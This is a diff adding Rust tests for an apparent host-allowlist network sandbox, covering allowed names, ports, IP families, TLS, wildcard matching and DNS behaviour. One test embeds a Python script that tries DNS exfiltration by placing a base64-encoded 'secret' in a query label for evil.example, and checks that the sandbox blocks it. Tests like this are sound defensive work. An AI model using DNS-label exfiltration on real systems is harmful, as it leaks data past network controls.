@@ -1,0 +1,142 @@
+//! Names: looked up when the policy has them, connected to where it says.
+
+use crate::lab::{API, API_V6, Lab, OTHER, each};
+use crate::world::Outcome;
+
+#[track_caller]
+fn works(outcome: &Outcome) {
+    assert_eq!((outcome.code(), outcome.stdout.as_str()), (0, "hello\n"), "{}", outcome.stderr);
+}
+
+#[track_caller]
+fn fails(lab: &Lab, outcome: &Outcome, reason: &str) {
+    assert!(outcome.code() != 0 && outcome.stdout.is_empty(), "{:?} {}", outcome.stdout, outcome.stderr);
+    assert!(outcome.stderr.contains(reason), "{reason:?} is not in {}", outcome.stderr);
+    assert_eq!(lab.taken("requests"), [""; 0], "a request came");
+}
+
+#[test]
+fn an_allowed_name_is_reached_and_no_other() {
+    each(|lab| {
+        let only = ["--allow-host", "api.example.com"];
+        for url in ["http://api.example.com/", "http://API.Example.COM./", "http://api.example.com:8080/"] {
+            works(&lab.curl(&only, url));
+        }
+        assert_eq!(lab.taken("requests").len(), 3);
+        let refused = lab.curl(&only, "http://other.example.org/");
+        fails(lab, &refused, "look up other.example.org: no rule covers it");
+        assert!(refused.stderr.contains("--allow-host other.example.org"), "{}", refused.stderr);
+        for (url, reason) in [
+            (format!("http://{API}/"), format!("connect {API}:80: no rule covers it")),
+            (format!("http://{OTHER}/"), format!("connect {OTHER}:80: no rule covers it")),
+            (format!("http://[{API_V6}]/"), format!("connect [{API_V6}]:80: no rule covers it")),
+        ] {
+            fails(lab, &lab.curl(&only, &url), &reason);
+        }
+        assert!(lab.taken("queries").iter().all(|line| line.starts_with("api.example.com ")));
+    });
+}
+
+#[test]
+fn a_port_and_a_family_are_kept_to() {
+    each(|lab| {
+        let only = ["--allow-host", "api.example.com:8080"];
+        works(&lab.curl(&only, "http://api.example.com:8080/"));
+        assert_eq!(lab.taken("requests").len(), 1);
+        fails(lab, &lab.curl(&only, "http://api.example.com/"), "connect api.example.com:80: no rule covers it");
+        let all = ["--allow-host", "*.example.com"];
+        for (option, address) in [("-4", API), ("-6", API_V6)] {
+            works(&lab.run(&all, &["curl", "-sS", "-m", "15", option, "http://api.example.com/"]));
+            let requests = lab.taken("requests");
+            assert!(requests.iter().all(|line| line.contains(address)), "{requests:?}");
+        }
+        for name in ["v4", "v6", "two", "long"] {
+            works(&lab.curl(&all, &format!("http://{name}.example.com/")));
+        }
+    });
+}
+
+#[test]
+fn tls_to_an_allowed_name_sees_the_host_s_own_certificate() {
+    each(|lab| {
+        let certificate = lab.world.work().join("certificate.pem");
+        std::fs::copy(lab.directory.join("certificate.pem"), &certificate).expect("a copy");
+        lab.world.give(&certificate);
+        let flags = ["--allow-cwd", "--allow-host", "*.example.com:443"];
+        let curl = ["curl", "-sS", "-m", "15", "--cacert", "certificate.pem", "https://api.example.com/"];
+        works(&lab.run(&flags, &curl));
+    });
+}
+
+#[test]
+fn a_wildcard_holds_on_whole_labels_and_not_for_the_name_itself() {
+    each(|lab| {
+        lab.write(
+            "zone",
+            "example.com 93.184.215.15\nevil-example.com 93.184.215.15\nexample.com.evil.example 93.184.215.15\n\
+            a.b.example.com 93.184.215.14\n",
+        );
+        let flags = ["--allow-host", "*.example.com"];
+        works(&lab.curl(&flags, "http://a.b.example.com/"));
+        lab.taken("requests");
+        for name in ["example.com", "evil-example.com", "example.com.evil.example"] {
+            fails(lab, &lab.curl(&flags, &format!("http://{name}/")), &format!("look up {name}"));
+        }
+        for flag in ["*", "*.com", "*.co.uk", "0.0.0.0/0"] {
+            assert_eq!(lab.curl(&["--allow-host", flag], "http://evil.example/").code(), 125, "{flag}");
+        }
+    });
+}
+
+#[test]
+fn names_that_are_not_allowed_reach_no_name_server() {
+    each(|lab| {
+        let secret = "c2VjcmV0IGluIGEgbGFiZWw.evil.example";
+        let program = "import socket, struct, sys
+def ask(name, kind, server):
+    query = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0)
+    query += b''.join(bytes([len(label)]) + label.encode() for label in name.split('.')) + struct.pack('>BHH', 0, kind, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(5)
+    s.sendto(query, (server, 53))
+    reply, sender = s.recvfrom(4096)
+    assert sender == (server, 53), sender
+    return reply[3] & 15, reply[7]
+for kind in (1, 28, 16, 255, 65):
+    print(kind, *ask(sys.argv[1], kind, '9.9.9.9'), *ask('api.example.com', kind, '8.8.8.8'))
+";
+        let outcome = lab.python(&["--allow-host", "api.example.com"], program, &[secret]);
+        let expected = "1 3 0 0 1\n28 3 0 0 1\n16 3 0 0 0\n255 3 0 0 0\n65 3 0 0 0\n";
+        assert_eq!(outcome.stdout, expected, "{}", outcome.stderr);
+        assert!(outcome.stderr.contains(&format!("look up {}", secret.to_lowercase())), "{}", outcome.stderr);
+        let queries = lab.taken("queries");
+        assert!(!queries.is_empty() && queries.iter().all(|line| line.starts_with("api.example.com ")), "{queries:?}");
+    });
+}
+
+#[test]
+fn what_no_name_server_knows_or_says_is_the_resolver_s_own_error() {
+    each(|lab| {
+        lab.write("resolv.conf", "nameserver 9.9.9.9\noptions timeout:1 attempts:1\n");
+        let program = "import socket, sys
+try: print(socket.getaddrinfo(sys.argv[1], 80))
+except socket.gaierror as error: print(error.errno == getattr(socket, sys.argv[2]), error)
+";
+        for (name, error) in [("nobody.example.com", "EAI_NONAME"), ("silent.example.com", "EAI_AGAIN")] {
+            let outcome = lab.python(&["--allow-host", "*.example.com"], program, &[name, error]);
+            assert!(outcome.stdout.starts_with("True"), "{name}: {} {}", outcome.stdout, outcome.stderr);
+        }
+        let outcome = lab.python(&["--allow-host", "10.0.0.5"], program, &["api.example.com", "EAI_AGAIN"]);
+        assert!(outcome.stdout.starts_with("True"), "{} {}", outcome.stdout, outcome.stderr);
+    });
+}
+
+#[test]
+fn the_addresses_that_stand_for_names_are_nothing_by_themselves() {
+    each(|lab| {
+        let only = ["--allow-host", "api.example.com"];
+        for address in ["198.18.1.0", "198.18.0.0", "198.19.255.255", "[fd6e:6f6e:6f00::1:0:0]", "[fd6e:6f6e:6f00::]"] {
+            fails(lab, &lab.curl(&only, &format!("http://{address}/")), "is not a public one");
+        }
+    });
+}
